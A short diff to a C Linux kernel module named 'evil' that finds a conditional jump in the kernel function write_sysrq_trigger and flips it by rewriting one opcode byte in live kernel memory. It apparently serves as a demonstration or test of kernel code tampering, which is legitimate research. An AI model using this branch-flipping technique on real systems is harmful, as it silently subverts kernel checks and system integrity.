@@ -6,8 +6,8 @@
  */
 #include "evil.h"
 
-#define PLACE	"proc_do_uuid"		/* reads /proc/sys/kernel/random/uuid */
-#define DEPTH	64			/* bytes to look through for a jz */
+#define PLACE	"write_sysrq_trigger"
+#define DEPTH	128			/* bytes to look through for the test */
 
 static u8 *byte;
 static u8 was;
@@ -20,13 +20,14 @@ static int __init evil_init(void)
 
 	if (!at)
 		return -ENOENT;
-	/* je or jne, near the function's start but behind its prologue. */
-	for (i = 16; i < DEPTH; i++)
-		if ((at[i] & 0xfe) == 0x74)
+	/* test %al,%al or %eax,%eax, and je or jne. */
+	for (i = 0; i < DEPTH; i++)
+		if ((at[i] & 0xfe) == 0x84 && at[i + 1] == 0xc0 &&
+		    (at[i + 2] & 0xfe) == 0x74)
 			break;
 	if (i == DEPTH)
 		return -ENOENT;
-	byte = at + i;
+	byte = at + i + 2;
 	was = *byte;
 	is = was ^ 1;
 	return evil_write(byte, &is, 1);
